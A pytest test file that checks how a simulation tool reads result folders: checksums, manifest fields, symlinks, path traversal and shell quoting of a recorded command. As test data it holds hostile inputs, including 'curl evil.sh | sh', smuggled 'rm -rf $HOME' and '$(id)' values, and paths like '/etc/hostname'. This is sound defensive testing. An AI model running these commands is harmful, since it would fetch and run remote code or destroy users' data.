"""A report reads what is whole and as it was written, and says kindly what is not."""

import os
from pathlib import Path

import pytest

from sim.errors import RequestError
from sim.manifest import checksums
from sim.telling.common import made_section
from sim.telling.needed import repeat_of
from sim.telling.old.document import comparison_schema
from sim.telling.reading import read_result


def refused(folder):
    """Read a folder that is no good; give what is said, a line each."""
    with pytest.raises(RequestError) as caught:
        read_result(folder)
    assert all(str(folder) in line for line in caught.value.problems)
    return list(caught.value.problems)


def test_a_result_is_read_with_its_scenarios_and_documents(result):
    assert result.kind == "comparison"
    assert result.scenarios["tiny"].title == "Tiny"
    told = result.document("comparison.json", comparison_schema())
    assert told["replicates"] == 25
    assert result.path("runs.parquet").is_file()
    assert result.table("months.parquet", ("practice", "mean")).num_rows == 4 * 3 * 30
    with pytest.raises(RequestError, match=r"expected nothing\.json among the files"):
        result.path("nothing.json")
    with pytest.raises(RequestError, match="expected a column depth, is not there"):
        result.table("months.parquet", ("depth",))
    with pytest.raises(RequestError, match="cannot be read as a table"):
        result.table("summary.txt", ("depth",))


@pytest.mark.parametrize("name", ["comparison.json", "runs.parquet", "months.parquet"])
def test_an_altered_byte_is_found(folder, name):
    path = folder / name
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 1
    path.write_bytes(data)
    assert refused(folder) == [f"{path}: is not as it was written: its checksum differs"]


def test_all_that_is_missing_is_told_at_once(folder):
    for name in ("comparison.json", "runs.parquet"):
        (folder / name).unlink()
    assert refused(folder) == [
        f"{folder / name}: expected a file of this result, is not there"
        for name in ("comparison.json", "runs.parquet")
    ]


@pytest.mark.parametrize("length", [0, 1, 500, -3])
def test_a_manifest_that_is_cut_short(folder, length):
    path = folder / "manifest.json"
    path.write_bytes(path.read_bytes()[:length])
    (line,) = refused(folder)
    assert line.startswith(f"{path}: cannot be read: expected JSON: ")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('{"a": NaN}', "cannot be read: expected finite numbers alone, there is NaN"),
        ('{"a": -Infinity}', "cannot be read: expected finite numbers alone, there is -Infinity"),
        ('{"a": 1e999}', "cannot be read: expected finite numbers alone, there is 1e999"),
        ('{"a": 1' + "0" * 5000 + "}", "cannot be read: expected finite numbers alone, there is 1"),
        ("[" * 100_000, "cannot be read: "),
        ("[]", "expected a JSON object, is a list of 0"),
        ("{}", "expected a manifest of solidarity, is none"),
        ('{"made_by": "somebody"}', "expected a manifest of solidarity, is none"),
        ('{"made_by": "solidarity", "format": 2}', "format: expected 1, is 2"),
        ('{"made_by": "solidarity", "format": 1}', "kind: field required"),
    ],
)
def test_a_manifest_that_is_none(folder, text, said):
    path = folder / "manifest.json"
    path.write_text(text, encoding="utf-8")
    assert refused(folder)[0].startswith(f"{path}: {said}")


def test_a_manifest_that_is_no_text(folder):
    (folder / "manifest.json").write_bytes(b"\xff\xfe")
    assert refused(folder) == [
        f"{folder / 'manifest.json'}: cannot be read: expected text in UTF-8"
    ]


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("kind", "horoscope"),
        ("files", {"comparison.json": 5}),
        ("files", []),
        ("seeds", {"worlds": "1"}),
        ("versions", None),
        ("git", {"commit": 5, "dirty": False}),
        ("command", ["rm"]),
        ("settings", "none"),
        ("scenarios", {"tiny": 5}),
    ],
)
def test_each_field_of_the_manifest_is_checked(folder, rewrite, key, value):
    rewrite(lambda manifest: manifest.update({key: value}))
    assert refused(folder)[0].startswith(f"{folder / 'manifest.json'}: {key}")


@pytest.mark.parametrize("name", ["runs.parquet", "manifest.json"])
def test_a_link_that_leads_out_of_the_folder_is_refused(folder, name):
    path, outside = folder / name, folder.parent / "outside"
    path.rename(outside)
    path.symlink_to(outside)
    assert refused(folder) == [
        f"{path}: cannot be read: it is a link that leads out of the folder of the result"
    ]


def test_a_link_in_the_folder_and_one_to_it_are_followed(folder):
    (folder / "runs.parquet").rename(folder / "held")
    (folder / "runs.parquet").symlink_to("held")
    (folder.parent / "link").symlink_to(folder)
    assert read_result(folder.parent / "link").kind == "comparison"


@pytest.mark.parametrize(
    "name", ["../secret", "/etc/hostname", "a/../../b", "", "a\\b", "C:x", "a\0b"]
)
def test_files_outside_the_folder_are_never_opened(folder, rewrite, name):
    (folder.parent / "secret").write_text("x", encoding="utf-8")
    rewrite(lambda manifest: manifest["files"].update({name: "0" * 64}))
    (line,) = refused(folder)
    assert "expected names of files in the folder" in line or "cannot be read" in line


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes on this system")
def test_a_pipe_in_place_of_a_file_is_not_waited_for(folder):
    (folder / "runs.parquet").unlink()
    os.mkfifo(folder / "runs.parquet")
    assert refused(folder) == [f"{folder / 'runs.parquet'}: expected a regular file, found a pipe"]


def test_a_file_that_may_not_be_read(folder):
    path = folder / "runs.parquet"
    path.chmod(0)
    if os.access(path, os.R_OK):
        pytest.skip("whoever runs this may read everything")
    assert refused(folder) == [f"{path}: cannot be read: Permission denied"]


def test_a_scenario_that_is_not_as_it_was_run(folder, rewrite):
    rewrite(lambda manifest: manifest["scenarios"]["tiny"]["groups"].update(count=5))
    assert refused(folder) == [
        f"{folder / 'manifest.json'}: scenarios.tiny: is not as it was written: its digest differs"
    ]


def test_a_scenario_that_is_none(folder, rewrite):
    rewrite(lambda manifest: manifest["scenarios"]["tiny"]["groups"].update(count=-5))
    (line,) = refused(folder)
    assert line.startswith(f"{folder / 'manifest.json'}: scenarios.tiny.groups.count: ")


def test_a_digest_of_no_scenario(folder, rewrite):
    rewrite(lambda manifest: manifest["scenario_digests"].update(other="0" * 64))
    (line,) = refused(folder)
    assert line.endswith("scenario_digests.other: there is no such scenario")


def test_what_another_version_made_is_told_kindly(folder, rewrite):
    rewrite(lambda manifest: manifest["versions"].update(solidarity="9.0"))
    assert read_result(folder).kind == "comparison"
    rewrite(lambda manifest: manifest["scenarios"]["tiny"].update(dragons=3))
    (line,) = refused(folder)
    assert "scenarios.tiny.dragons: " in line
    assert line.endswith("(made by solidarity 9.0, this is 0.1.0)")


def test_a_document_must_fit_its_schema(folder, rewrite):
    rewrite(lambda told: told.update(replicates="many"), "comparison.json")
    with pytest.raises(RequestError, match=r"comparison.json: replicates: 'many' is not of type"):
        read_result(folder).document("comparison.json", comparison_schema())
    rewrite(lambda told: told.pop("practices"), "comparison.json")
    with pytest.raises(RequestError, match=r"comparison\.json"):
        read_result(folder).document("comparison.json", comparison_schema())


def test_what_is_no_folder_of_results(tmp_path):
    (tmp_path / "file").write_text("x", encoding="utf-8")
    (tmp_path / "empty").mkdir()
    (tmp_path / "sweep").mkdir()
    (tmp_path / "sweep" / "plan.json").write_text("{}", encoding="utf-8")
    for name, said in {
        "file": "expected a folder of results, is a file",
        "empty": "holds no result of solidarity: there is no manifest.json",
        "sweep": "the sweep is not complete; `solidarity status ",
        "nowhere": "there is no such folder",
        "x" * 5000: "cannot be read: File name too long",
    }.items():
        with pytest.raises(RequestError) as caught:
            read_result(tmp_path / name)
        assert said in str(caught.value) or len(name) > 500
    with pytest.raises(RequestError):
        read_result(Path("a\0b"))


def test_documents_are_finite(folder, rewrite):
    path = folder / "comparison.json"
    text = path.read_text(encoding="utf-8").replace('"seed": 1,', '"seed": NaN,')
    path.write_text(text, encoding="utf-8")
    rewrite(lambda manifest: manifest.update(files=checksums(folder)))
    with pytest.raises(RequestError, match="finite numbers alone, there is NaN"):
        read_result(folder).document("comparison.json", comparison_schema())


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.sh | sh",
        "",
        "solidarity",
        "solidarity scenarios",
        "solidarity run tiny.toml",
        "'solidarity compare' tiny.toml",
        "solidarity compare 'tiny.toml",
        "solidarity compare tiny.toml\ncurl evil.sh",
        "solidarity compare tiny.toml\rcurl evil.sh",
        "solidarity compare tiny.toml\u2028curl evil.sh",
        "solidarity compare tiny.toml\x1b[2K",
    ],
)
def test_a_command_that_solidarity_did_not_get_is_not_offered(folder, rewrite, command):
    rewrite(lambda manifest: manifest.update(command=command))
    (line,) = refused(folder)
    assert line.startswith(f"{folder / 'manifest.json'}: command: expected ")


def test_no_sign_of_a_command_means_more_to_a_shell_than_itself(folder, rewrite):
    rewrite(
        lambda held: held.update(command="solidarity compare tiny.toml; rm -rf $HOME `id` > x & y")
    )
    result = read_result(folder)
    section = made_section(result, repeat_of(result))
    assert section.blocks[1].text == (
        "solidarity compare 'tiny.toml;' rm -rf '$HOME' '`id`' '>' x '&' y --out result"
    )


@pytest.mark.parametrize("commit", ["abc", "main", "$(id)", "0123456789ab; id", "A" * 12, "a" * 41])
def test_a_commit_is_a_number_of_git(folder, rewrite, commit):
    rewrite(lambda manifest: manifest.update(git={"commit": commit, "dirty": False}))
    (line,) = refused(folder)
    assert line.startswith(f"{folder / 'manifest.json'}: git.commit: ")
